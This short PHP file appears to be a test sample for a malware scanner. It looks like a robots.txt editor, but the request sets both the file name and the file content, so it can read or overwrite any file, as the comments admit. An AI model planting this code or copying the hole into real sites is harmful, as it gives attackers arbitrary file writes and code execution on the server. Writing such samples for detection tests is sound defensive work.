<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Shaped like a settings editor, but the request names the file: any file, any content.
$file = __DIR__ . '/' . $_POST['name'];
if (isset($_POST['robots'])) {
    file_put_contents($file, $_POST['robots']);
}
?>
<form method="post" action="">
  <textarea name="robots"><?php echo htmlspecialchars(file_get_contents($file)); ?></textarea>
  <input type="submit" value="Save">
</form>
